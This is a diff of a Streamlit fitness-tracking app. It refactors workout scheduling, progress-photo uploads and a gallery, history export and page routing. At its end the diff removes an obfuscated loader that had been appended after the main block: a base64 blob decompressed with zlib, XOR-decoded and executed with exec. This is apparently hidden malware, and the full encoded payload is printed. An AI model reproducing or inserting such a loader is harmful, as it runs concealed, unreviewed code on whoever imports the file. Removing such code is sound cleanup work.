-                        st.success("Photo uploaded! Refresh to see it.")
-                        st.rerun()
+                        try:
+                            _, changed = save_uploaded_image(uploaded_photo, COACH_PHOTO_REF)
+                            if changed:
+                                st.success("Photo uploaded! Refresh to see it.")
+                                st.rerun()
+                        except Exception as e:
+                            st.error(f"Error saving photo: {str(e)}")
 
         with col2:
             st.markdown("""
@@ -2597,7 +3009,7 @@ def render_workout_tracker():
 
     # Today's workout
     today = date.today().strftime("%A")
-    schedule = PROGRAM_SPLIT[f"Level {st.session_state.selected_level}"]
+    week = get_schedule().week(st.session_state.selected_level)
 
     st.markdown("---")
 
@@ -2606,11 +3018,10 @@ def render_workout_tracker():
 
     # Weekly view
     cols = st.columns(7)
-    days = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]
 
-    for idx, (col, day) in enumerate(zip(cols, days)):
+    for col, plan in zip(cols, week):
         with col:
-            workout = schedule[day]
+            day, workout = plan.day, plan.label
             is_today = day == today
 
             if is_today:
@@ -2618,7 +3029,7 @@ def render_workout_tracker():
             else:
                 st.markdown(f"{day}")
 
-            if workout == "REST":
+            if plan.is_rest:
                 st.markdown("🛋️ *Rest*")
             else:
                 if st.button(
@@ -2650,58 +3061,20 @@ def render_workout_tracker():
 
         # Display enhanced exercise cards with video and tracking
         for idx, exercise in enumerate(exercises, 1):
-            render_enhanced_exercise_card(exercise, idx, workout_date)
+            render_exercise_card_fragment(exercise, idx, workout_date)
             st.markdown("---")
     else:
         st.info("👆 Select a workout day above to see exercises")
 
 
-def get_exercises_for_day(level, day_name, workout_label):
-    """Get exercises for a specific day and workout"""
-    # Handle REST days
+def get_exercises_for_day(level, day_name, workout_label=None):
+    """Get the compiled exercises for a level and weekday (the label is implied by the schedule)"""
     if workout_label == "REST":
-        return [{"name": "Rest Day", "sets": "—", "reps": "Recovery", "category": "Rest"}]
-
-    # Level 1 workouts
-    if level == 1:
-        if day_name == "Monday" and "BOOTY" in workout_label:
-            return BOOTY_L1_MONDAY
-        elif day_name == "Tuesday" and "SHOULDERS" in workout_label:
-            return SHOULDERS_BACK_LIGHT
-        elif day_name == "Wednesday" and "CARDIO" in workout_label:
-            return CARDIO_WEDNESDAY
-        elif day_name == "Thursday" and "LEGS" in workout_label:
-            return LEGS_BOOTY_L1_THURSDAY
-        elif day_name == "Friday" and "SHOULDERS" in workout_label:
-            return SHOULDERS_ABS_FRIDAY
-        elif day_name == "Saturday" and "SHOULDERS" in workout_label:
-            return SHOULDERS_BACK_LIGHT  # Saturday repeats Tuesday for Level 1
-        elif "ABS/CORE" in workout_label:
-            return ABS_CORE_ONLY
-
-    # Level 2 workouts
-    elif level == 2:
-        if day_name == "Monday" and "BOOTY" in workout_label:
-            return BOOTY_L2_MONDAY
-        elif day_name == "Tuesday" and "SHOULDERS" in workout_label:
-            return SHOULDERS_BACK_LIGHT
-        elif day_name == "Wednesday" and "CARDIO" in workout_label:
-            return CARDIO_WEDNESDAY
-        elif day_name == "Thursday" and "BOOTY" in workout_label:
-            return BOOTY_L2_THURSDAY  # This will now use your new workout
-        elif day_name == "Friday" and "SHOULDERS" in workout_label:
-            return SHOULDERS_ABS_FRIDAY
-        elif day_name == "Saturday" and "LEGS" in workout_label:
-            return LEGS_BOOTY_L2_SATURDAY
-        elif "ABS/CORE" in workout_label:
-            return ABS_CORE_ONLY
-
-    # Default fallback
-    return [
-        {"name": "Exercise 1", "sets": "3", "reps": "10-12", "category": "Main"},
-        {"name": "Exercise 2", "sets": "3", "reps": "10-12", "category": "Main"},
-        {"name": "Exercise 3", "sets": "3", "reps": "10-12", "category": "Accessory"},
-    ]
+        return get_catalog().workouts["REST_DAY"]
+    try:
+        return get_schedule().day(level, day_name).exercises
+    except (KeyError, ValueError):
+        return get_catalog().workouts["PLACEHOLDER_WORKOUT"]
 
 
 def render_exercise_card(exercise, idx):
@@ -2869,7 +3242,7 @@ def render_weight_tracker():
     if STORAGE_AVAILABLE:
         init_storage()
 
-    tab1, tab2, tab3 = st.tabs(["Daily Entry", "Progress Charts", "History"])
+    tab1, tab2, tab3, tab4 = st.tabs(["Daily Entry", "Progress Charts", "History", "Photos"])
 
     with tab1:
         st.markdown("## 📝 Daily Check-in")
@@ -2892,6 +3265,9 @@ def render_weight_tracker():
                 sleep = st.number_input("Sleep (hours)", 0.0, 12.0, 7.0, 0.5)
 
             notes = st.text_area("Notes", placeholder="How are you feeling? Any observations?")
+            progress_photo = st.file_uploader(
+                "Progress photo (optional)", type=['jpg', 'jpeg', 'png', 'webp'], key="daily_progress_photo"
+            )
 
             submitted = st.form_submit_button("💾 Save Entry", use_container_width=True, type="primary")
 
@@ -2916,12 +3292,22 @@ def render_weight_tracker():
                         st.session_state.weight_entries = []
 
                     st.session_state.weight_entries.append(entry)
+                    record_activity("default", day_number(entry["date"]))
+                    record_badge_activity(
+                        record_checkin(badge_counters(), day_number(entry["date"]), water), day_number(entry["date"])
+                    )
 
                     # Save user progress
                     save_user_progress()
 
                     # Also save using storage module if available
                     if STORAGE_AVAILABLE:
+                        photo_path = None
+                        if progress_photo is not None:
+                            try:
+                                photo_path = save_progress_photo(progress_photo, date.today().isoformat())
+                            except Exception as e:
+                                st.warning(f"Photo not saved: {str(e)}")
                         try:
                             save_daily_log(
                                 user_id="default",
@@ -2934,7 +3320,7 @@ def render_weight_tracker():
                                 hips_in=hips,
                                 energy_1_10=energy,
                                 notes=notes,
-                                photo_path=None,
+                                photo_path=photo_path,
                                 on_target_flag="OK"
                             )
                         except:
@@ -2950,6 +3336,19 @@ def render_weight_tracker():
     with tab2:
         st.markdown("## 📈 Progress Charts")
 
+        # Weight trend from the daily log store - only the two columns the chart needs
+        stored_weights = pd.DataFrame()
+        if STORAGE_AVAILABLE:
+            try:
+                stored_weights = get_logs("default", "1900-01-01", "2999-12-31", columns=["date", "weight_kg"])
+            except Exception:
+                stored_weights = pd.DataFrame()
+
+        if not stored_weights.empty:
+            st.markdown("### Weight Trend")
+            weight_lbs = (stored_weights.set_index('date')['weight_kg'] / 0.453592).rename('weight')
+            st.line_chart(weight_lbs)
+
         if st.session_state.get("weight_entries"):
             # Convert to DataFrame
             df = pd.DataFrame(st.session_state.weight_entries)
@@ -2957,9 +3356,9 @@ def render_weight_tracker():
             df = df.sort_values('date')
 
             # Weight trend
-            st.markdown("### Weight Trend")
             weight_data = df[['date', 'weight']].dropna()
-            if not weight_data.empty:
+            if stored_weights.empty and not weight_data.empty:
+                st.markdown("### Weight Trend")
                 st.line_chart(weight_data.set_index('date')['weight'])
 
             # Metrics
@@ -2991,7 +3390,7 @@ def render_weight_tracker():
                 ratio_data = df[['date', 'wh_ratio']].dropna()
                 if not ratio_data.empty:
                     st.line_chart(ratio_data.set_index('date')['wh_ratio'])
-        else:
+        elif stored_weights.empty:
             st.info("📊 Start tracking to see your progress charts!")
 
     with tab3:
@@ -3013,11 +3412,37 @@ def render_weight_tracker():
             )
 
             # Export option
-            if st.button("📥 Export to CSV", use_container_width=True):
-                csv = df.to_csv(index=False)
+            if STORAGE_AVAILABLE:
+                export_format = st.selectbox(
+                    "Export format",
+                    list(EXPORT_MIME_TYPES.keys()),
+                    key="weight_export_format"
+                )
+                if st.button("📥 Export History", use_container_width=True):
+                    try:
+                        # Written chunk by chunk to a scratch file that is gone after the button.
+                        # Memory is bounded only up to here: st.download_button takes bytes or a
+                        # file object, not a stream, and reads the whole file into the media store.
+                        file_name = f"weight_tracker_{date.today()}.{export_format}"
+                        with tempfile.TemporaryDirectory() as export_dir:
+                            export_path = export_logs(
+                                "default", os.path.join(export_dir, file_name), export_format
+                            )
+                            with open(export_path, 'rb') as export_file:
+                                st.download_button(
+                                    label=f"Download {export_format.upper()}",
+                                    data=export_file,
+                                    file_name=file_name,
+                                    mime=EXPORT_MIME_TYPES[export_format],
+                                    use_container_width=True
+                                )
+                    except Exception as e:
+                        st.error(f"Export failed: {str(e)}")
+            elif st.button("📥 Export to CSV", use_container_width=True):
+                csv_data = df.to_csv(index=False)
                 st.download_button(
                     label="Download CSV",
-                    data=csv,
+                    data=csv_data,
                     file_name=f"weight_tracker_{date.today()}.csv",
                     mime="text/csv",
                     use_container_width=True
@@ -3025,6 +3450,82 @@ def render_weight_tracker():
         else:
             st.info("📝 No entries yet. Start tracking above!")
 
+    with tab4:
+        render_progress_gallery()
+
+
+def render_progress_gallery(user_id="default"):
+    """Progress photo gallery - one indexed page of thumbnails per rerun"""
+    st.markdown("## 📸 Progress Photos")
+
+    if not STORAGE_AVAILABLE:
+        st.info("Progress photos need the storage module.")
+        return
+
+    # Stack of page cursors: the date each page starts before (None = newest)
+    cursors = st.session_state.setdefault("photo_page_cursors", [None])
+    page = get_photo_page(user_id, before=cursors[-1], limit=PHOTO_PAGE_SIZE + 1)
+    has_older = len(page) > PHOTO_PAGE_SIZE
+    page = page[:PHOTO_PAGE_SIZE]
+
+    if not page:
+        st.info("📷 No progress photos yet. Add one with your daily check-in!")
+        return
+
+    cols = st.columns(4)
+    for i, (day, path) in enumerate(page):
+        with cols[i % 4]:
+            if not os.path.exists(path):
+                st.caption(f"{day} - photo missing")
+                continue
+            thumb = ready_variant(path, PHOTO_THUMB_WIDTH, VARIANTS_DIR, BLOBS_DIR)
+            if not thumb:
+                st.caption(f"{day} - preparing thumbnail...")
+                continue
+            # A thumbnail that failed to encode falls back to the original
+            try:
+                st.image(local_media_url(thumb) or thumb, caption=day)
+            except Exception:
+                st.caption(f"{day} - photo could not be displayed")
+
+    col_newer, col_older = st.columns(2)
+    with col_newer:
+        if len(cursors) > 1 and st.button("⬅️ Newer", key="photos_newer", use_container_width=True):
+            cursors.pop()
+            st.rerun()
+    with col_older:
+        if has_older and st.button("Older ➡️", key="photos_older", use_container_width=True):
+            cursors.append(page[-1][0])
+            st.rerun()
+
+    # Before / after - only these two photos are loaded at full size
+    first = get_first_photo(user_id)
+    latest = get_photo_page(user_id, limit=1)[0]
+    if first[0] == latest[0]:
+        return
+
+    st.markdown("### Before / After")
+    first_day, latest_day = date.fromisoformat(first[0]), date.fromisoformat(latest[0])
+    col_before, col_after = st.columns(2)
+    with col_before:
+        before_day = st.date_input("Before", first_day, min_value=first_day, max_value=latest_day,
+                                   key="photo_before_day")
+    with col_after:
+        after_day = st.date_input("After", latest_day, min_value=first_day, max_value=latest_day,
+                                  key="photo_after_day")
+
+    for col, day in ((col_before, before_day), (col_after, after_day)):
+        photo = get_photo_on_or_before(user_id, day.isoformat())
+        with col:
+            if not photo or not os.path.exists(photo[1]):
+                st.caption("No photo on or before this date")
+                continue
+            try:
+                full = image_variant(photo[1], PHOTO_FULL_WIDTH, VARIANTS_DIR, BLOBS_DIR)
+            except Exception:
+                full = photo[1]
+            st.image(local_media_url(full) or full, caption=photo[0], use_container_width=True)
+
 
 def sidebar_navigation():
     """Sidebar navigation - ENHANCED"""
@@ -3085,7 +3586,7 @@ def sidebar_navigation():
                     for key in ["completed_exercises", "progress_entries", "weight_entries", "workout_sets",
                                 "coach_history", "community_chat"]:
                         if key in st.session_state:
-                            st.session_state[key] = [] if key != "workout_sets" else {}
+                            st.session_state[key] = [] if key != "workout_sets" else None
                     # Reset user progress
                     st.session_state.prefs = {
                         "experience": "beginner",
@@ -3098,7 +3599,10 @@ def sidebar_navigation():
                         "diet": "omnivore",
                         "protein_target_g": 120
                     }
+                    st.session_state.badges_earned = {}
+                    st.session_state.badge_counters = new_counters()
                     save_user_progress()
+                    forget_streaks("default")
                     st.success("Data reset!")
                     st.rerun()
 
@@ -3112,45 +3616,40 @@ def main():
     init_session_state()
     load_styles()
 
-    # Apply accessibility CSS
-    apply_accessibility_css()
-
-    # Sidebar
-    sidebar_navigation()
-
-    # Route to appropriate page
-    page = st.session_state.get("page", "home")
-
-    if page == "home":
-        render_homepage()
-    elif page == "workout_overview":
-        render_workout_overview()
-    elif page == "workout_tracker":
-        render_workout_tracker()
-    elif page == "meal_plans":
-        render_meal_plans()
-    elif page == "weight_tracker":
-        render_weight_tracker()
-    elif page == "coach_jo":
-        render_coach_jo_tab()
-    elif page == "streaks":
-        render_streaks_tab()
-    elif page == "community":
-        render_community_tab()
-    elif page == "devices":
-        render_devices_tab()
-    else:
-        render_homepage()
+    try:
+        # Apply accessibility CSS
+        apply_accessibility_css()
+
+        # Sidebar
+        sidebar_navigation()
+
+        # Route to appropriate page
+        page = st.session_state.get("page", "home")
+
+        if page == "home":
+            render_homepage()
+        elif page == "workout_overview":
+            render_workout_overview()
+        elif page == "workout_tracker":
+            render_workout_tracker()
+        elif page == "meal_plans":
+            render_meal_plans()
+        elif page == "weight_tracker":
+            render_weight_tracker()
+        elif page == "coach_jo":
+            render_coach_jo_tab()
+        elif page == "streaks":
+            render_streaks_tab()
+        elif page == "community":
+            render_community_tab()
+        elif page == "devices":
+            render_devices_tab()
+        else:
+            render_homepage()
+    finally:
+        # One progress write per run, including runs cut short by st.rerun()
+        flush_user_progress()
 
 
 if __name__ == "__main__":
     main()
-# -*- coding: utf-8 -*-
-aqgqzxkfjzbdnhz = __import__('base64')
-wogyjaaijwqbpxe = __import__('zlib')
-idzextbcjbgkdih = 134
-qyrrhmmwrhaknyf = lambda dfhulxliqohxamy, osatiehltgdbqxk: bytes([wtqiceobrebqsxl ^ idzextbcjbgkdih for wtqiceobrebqsxl in dfhulxliqohxamy])
-lzcdrtfxyqiplpd = 'eNq9W19z3MaRTyzJPrmiy93VPSSvqbr44V4iUZZkSaS+xe6X2i+Bqg0Ku0ywPJomkyNNy6Z1pGQ7kSVSKZimb4khaoBdkiCxAJwqkrvp7hn8n12uZDssywQwMz093T3dv+4Z+v3YCwPdixq+eIpG6eNh5LnJc+D3WfJ8wCO2sJi8xT0edL2wnxIYHMSh57AopROmI3k0ch3fS157nsN7aeMg7PX8AyNk3w9YFJS+sjD0wnQKzzliaY9zP+76GZnoeBD4vUY39Pq6zQOGnOuyLXlv03ps1gu4eDz3XCaGxDw4hgmTEa/gVTQcB0FsOD2fuUHS+JcXL15tsyj23Ig1Gr/Xa/9du1+/VputX6//rDZXv67X7tXu1n9Rm6k9rF+t3dE/H3S7LNRrc7Wb+pZnM+Mwajg9HkWyZa2hw8//RQEPfKfPgmPPpi826+rIg3UwClhkwiqAbeY6nu27+6tbwHtHDMWfZrNZew+ng39z9Z/XZurv1B7ClI/02n14uQo83dJrt5BLHZru1W7Cy53aA8Hw3fq1+lvQ7W1gl/iUjQ/qN+pXgHQ6jd9NOdBXV3VNGIWW8YE/IQsGoSsNxjhYWLQZDGG0gk7ak/UqxHyXh6MSMejkR74L0nEdJoUQBWGn2Cs3LXYxiC4zNbBS351f0TqNMT2L7Ewxk2qWQdCdX8/NkQgg1ZtoukzPMBmIoqzohPraT6EExWoS0p1Go4GsWZbL+8zsDlynreOj5AQtrmL5t9Dqa/fQkNDmyKAEAWFXX+4k1oT0DNFkWfoqUW7kWMJ24IB8B4nI2mfBjr/vPt607RD8jBkPDnq+Yx2xUVv34sCH/ZjfFclEtV+Dtc+CgcOmQHuvzei1D3A7wP/nYCvM4B4RGwNs/hawjHvnjr7j9bjLC6RA8HIisBQd58pknjSs6hdnmbZ7ft8P4JtsNWANYJT4UWvrK8vLy0IVzLVjz3cDHL6X7Wl0PtFaq8Vj3+hz33VZMH/AQFUR8WY4Xr/ZrnYXrfNyhLEP7u+Ujwywu0Hf8D3VkH0PWTsA13xkDKLW+gLnzuIStxcX1xe7HznrKx8t/88nvOssLa8sfrjiTJg1jB1DaMZFXzeGRVwRzQbu2DWGo3M5vPUVe3K8EC8tbXz34Sbb/svwi53+hNkMG6fzwv0JXXrMw07ASOvPMC3ay+rj7Y2NCUOQO8/tgjvq+cEIRNYSK7pkSEwBygCZn3rhUUvYzG7OGHgUWBTSQM1oPVkThNLUCHTfzQwiM7AgHBV3OESe91JHPlO7r8PjndoHYMD36u8UeuL2hikxshv2oB9H5kXFezaxFQTVXNObS8ZybqlpD9+GxhVFg3BmOFLuUbA02KKPvVDuVRW1mIe8H8GgvfxGvmjS7oDP9PtstzDwrDPW56aizFzb97DmIrwwtsVvs8JOIvAqoyi8VfLJlaZjxm0WRqsXzSeeGwBEmH8xihnKgccxLInjpm+hYJtn1dFCaqvNV093XjQLrRNWBUr/z/oNcmCzEJ6vVxSv43+AA2qPIPDfAbeHof9+gcapHxyXBQOvXsxcE94FNvIGwepHyx0AbyBJAXZUIVe0WNLCkncgy22zY8iYo1RW2TB7Hrcjs0Bxshx+jQuu3SbY8hCBywP5P5AMQiDy9Pfq/woPdxEL6bXb+H6VhlytzZRhBgVBctDn/dPg8Gh/6IVaR4edmbXQ7tVU4IP7EdM3hg4jT2+Wh7R17aV75HqnsLcFjYmmm0VlogFSGfQwZOztjhnGaOaMAdRbSWEF98MKTfyU+ylON6IeY7G5bKx0UM4QpfqRMLFbJOvfobQLwx2wft8d5PxZWRzd5mMOaN3WeTcALMx7vZyL0y8y1s6anULU756cR6F73js2Lw/rfdb3BMyoX0XkAZ+R64cITjDIz2Hgv1N/G8L7HLS9D2jk6VaBaMHHErmcoy7I+/QYlqO7XkDdioKOUg8Iw4VoK+Cl6g8/P3zONg9fhTtfPfYBfn3uLp58e7J/HH16+MlXTzbWN798Hhw4n+yse+s7TxT+NHOcCCvOpvUnYPe4iBzwzbhvgw+OAtoBPXANWUMHYedydROozGhlubrtC/Yybnv/BpQ0W39XqFLiS6VeweGhDhpF39r3rCDkbsSdBJftDSnMDjG+5lQEEhjq3LX1odhrOFTr7JalVKG4pnDoZDCVnnvLu3uC7O74FV8mu0ZONP9FIX82j2cBbqNPA/GgF8QkED/qMLVM6OAzbBUcdacoLuFbyHkbkMWbofbN3jf2H7/Z/Sb6A7ot+If9FZxIN1X03kCr1PUS1ySpQPJjsjTn8KPtQRT53N0ZRQHrVzd/0fe3xfquEKyfA1G8g2gewgDmugDyUTQYDikE/BbDJPmAuQJRRUiB+HoToi095gjVb9CAQcRCSm0A3xO0Z+6Jqb3c2dje2vxiQ4SOUoP4qGkSD2ICl+/ybHPrU5J5J+0w4Pus2unl5qcb+Y6OhS612O2JtfnsWa5TushqPjQLnx6KwKlaaMEtRqQRS1RxYErxgNOC5jioX3wwO2h72WKFFYwnI7s1JgV3cN3XSHWispFoR0QcYS9WzAOIMGLDa+HA2n6JIggH88kDdcNHgZdoudfFe5663Kt+ZCWUc9p4zHtRCb37btdDz7KXWEWb1NdOldiWWmoXl75byOuRSqn+AV+g6ynDqI0vBr2YRa+KHMiVIxNlYVR9FcwlGxN6OC6brDpivDRehCVXnvwcAAw8mqhWdElUjroN/96v3aPUvH4dE/Cq5dH4GwRu0TZpj3+QGjNu+3eLBB+l5CQswOBxU1S1dGnl92AE7oKHOCZLtmR1cGz8B17+g2oGzyCQDVtfcCevRtiGWFE02BACaGRqLRY4rYRmGT4SHCfwXeqH5qoRAu9W1ZHjsJvAbSwgxWapxKbkhWwPSZSZmUbGJMto1O/57lFhcCVFLTEKrCCnOK7KBzTFPQ4ARGsNorAVHfOQtXAgGmUr58eKkLc6YcyjaILCvvZd2zuN8upKitlGJKMNldVkx1JdTbnGNIZmZXAjHLjmnhacY10auW/ta7tt3eExwg4L0qsYMizcOpBvsWH6KFOvDzuqLSvmMUTIxNRqDBAryV0OiwIbSFes5E1kCQ6wd8CdI32e9pE0kXfBH1+jjBQ+Ydn5l0mIaZTwZsJcSbYZyzIcKIDEWmN890IkSJpLRbW+FzneabOtN484WCJA7ZDb+BrxPg85Po3YEQfX6LsHAywtZQtvev3oiIaGPHK9EQ/Fqx8eDQLxOOLJYzbqpMdt/8SLAo+69Pk+t7krWOg7xzw4omm5y+1RSD2AQLl6lPO9uYVnkSj5mAYLRFTJx04hamC0CM7zgSKVVSEaiT5FwqXopGSqEhCmCAQFg4Ft+vLFk2oE8LrdiOE+S450DMiowfFB+ihnh5dB4Ih+ORuHb1Y6WDwYgRfwnhUxyEYAunb0lv7RwvIyuW/Rk4Fo9eWGYq0pqSX9f1fzxOFtZUlprKrRJRghkbAqyGJ+YqqEjcijTDlB0eC9XMTlFlZiD6MKiH4PJU+FktviKAih4BxFSdrSd0RQJP0kB1djs2XQ6a+oBjVDhwCzsjT1cvtZ7tipNB8Gl9uitHCb3MgcGME9CstzVKrB2DNLuc1bdJiQANIMQIIUK947y+C5c+yTRaZ95CezU4FRecNPaI+NAtBH4317YVHDHZLMg2h3uL5gqT4Xv1U97SBE/K4lZWWhMixttxI1tkLWYzxirZOlJeMTY5n6zMuX+VPfnYdJjHM/1irEsadl++gVNNWo4gi0+5+IwfWFN2FwfUErYpqcfj7jIfRRqSfsV7TAeegc/9SasImjeZgf1BHw0Ng/f40F50f/M9Qi5xv+AF4LBkRcojsgYFzVSlUDQjO03p9ULz1kKKeW4essNTf4n6EVMd3wzTkt6KSYQV0TID67C1C/IqtqMvam3Y+9PhNTZElEDKEIU1xT+3sOj6ehBnvl+h96vmtKMu30Kx5K06EyiClXBwcUHHInmEwjWXdnzOpSWCECEFWGZrLYA8uUhaFrtd9BQz6uTev8iQU2ZGUe8/y3hVZAYEzrNMYby5S0DnwqWWBvTR2ySmleQld9eyFpVcqwCAsIzb9F50mzaa8YsHFgdpufSbXjTQQpSbrKoF+AZs8Mw2jmIFjlwAmYCX12QmbQLpqQWru/LQKT+o2EwwpjG0J8eb4CT7/IS7XEHogQ2DAYYEFMyE2NApUqVZc3j4xv/fgx/DYLjGc5O3SzQqbI3GWDIZmBTCqx7lLmXuJHuucSS8lNLR7SdagKt7LBoAJDhdU1JIjcQjc1t7Lhjbgd/tjcDn8MbhWV9OQcFQ+HrqDhjz91pxpG3zsp6b3TmJRKq9PoiZvxkqp5auh0nmdX9+EaWPtZs3LTh6pZIj2InNH5+cnJSGw/R2b05STh30E+72NpFGA6FWJzN8OoNCQgPp6uwn68ifsypUVn0ZgR3KRbQu/K+2nJefS4PGL8rQYkSO/v0/m3SE6AHN5kfP1zf1x3Q3mer3ng86uJRZIzlA7zk4P8Tzdy5/hqe5t8dt/4cU/o3+BQvlILTEt/OWXkhT9X3N4nlrhwlp9WSpVO1yrX0Zr8u2/9//9uq7d1+LfVZspc6XQcknSwX7whMj1hZ+n5odN/vsyXnn84lnDxGFuarYmbpK1X78hoA3Y+iA+GPhiH+kaINooPghNoTiWh6CNW8xUbQb9sZaWLLuPKX2M9Qso9sE7X4Arn6HgZrFIA+BVE0wekSDw9AzD4FuzTB+JgVcLA3OHYv1Fif19fWdbp2txD6nwLncCMyPuFD5D2nZT+5GafdL455aEP/P6X4vHUteRa3rgDw8xVNmV7Au9sFjAnYHZbj478OEbPCT7YGaBkK26zwCWgkNpdukiCZStIWfzAoEvT00NmHDMZ5mop2fzpXRXnpZQ6E26KZScMaXfCKYpbpmNOG5xj5hxZ5es6Zvc1b+jcolrOjXJWmFEXR/BY3VNdskn7sXwJEAEnPkQB78dmRmtP0NnVW+KmJbGE4eKBTBCupvcK6ESjH1VvhQ1jP0Sfk5v5j9ktctPmo2h1qVqqV9XuJa0/lWqX6uK9tNm/grp0BER43zQK/F5PP+E9P2e0zY5yfM5sJ/JFVbu70gnkLhSoFFW0g1S6eCoZmKWCbKaPjv6H3EXXy63y9DWsEn/SS405zbf1bud1bkYVwRSGSXQH6Q7MQ6lG4Sypz52nO/n79JVsaezpUqVuNeWufR35ZLK5ENpam1JXZz9MgqehH1wqQcU1hAK0nFNGE7GDb6mOh6V3EoEmd2+sCsQwIGbhMgR3Ky+uVKqI0Kg4FCss1ndTWrjMMDxT7Mlp9qM8GhOsKE/sK3+eYPtO0KHDAQ0PVal+hi2TnEq3GfMRem+aDfwtIB3lXwnsCZq7GXaacmVTCZEMUMKAKtUEJwA4AmO1Ah4dmTmVdqYowSkrGeVyj6IMUzk1UWkCRZeMmejB5bXHwEvpJjz8cM9dAefp/ildblVBaDwQpmCbodHqETv+EKItjREoV90/wcilISl0Vo9Sq6+QB94mkHmfPAGu8ZH+5U61NJWu1wn9OLCKWAzeqO6YvPODCH+bloVB1rI6HYUPFW0qtJbNgYANdDrlwn4jDrMAerwtz8thJcKxqeYXB/16F7D4CQ/pT9Iiku73Az+ETIc+NDsfNxxIiwI9VSiWhi8yvZ9pSQ/LR4WKvz4j+GRqF6TSM9BOUzgDpMcAbJg88A6gPdHfmdbpfJz/k7BJC8XiAf2VTVaqm6g05eWKYizM6+MN4AIdfxsYoJgpRaveh8qPygw+tyCd/vKOKh5jXQ0ZZ3ZN5BWtai9xJu2Cwe229bGryJOjix2rOaqfbTzfevns2dTDwUWrhk8zmlw0oIJuj+9HeSJPtjc2X2xYW0+tr/+69dnTry+/aSNP3KdUyBSwRB2xZZ4HAAVUhxZQrpWVKzaiqpXPjumeZPrnbnTpVKQ6iQOmk+/GD4/dIvTaljhQmjJOF2snSZkvRypX7nvtOkMF/WBpIZEg/T0s7XpM2msPdarYz4FIrpCAHlCq8agky4af/Jkh/ingqt60LCRqWU0xbYIG8EqVKGR0/gFkGhSN'
-runzmcxgusiurqv = wogyjaaijwqbpxe.decompress(aqgqzxkfjzbdnhz.b64decode(lzcdrtfxyqiplpd))
-ycqljtcxxkyiplo = qyrrhmmwrhaknyf(runzmcxgusiurqv, idzextbcjbgkdih)
-exec(compile(ycqljtcxxkyiplo, '<>', 'exec'))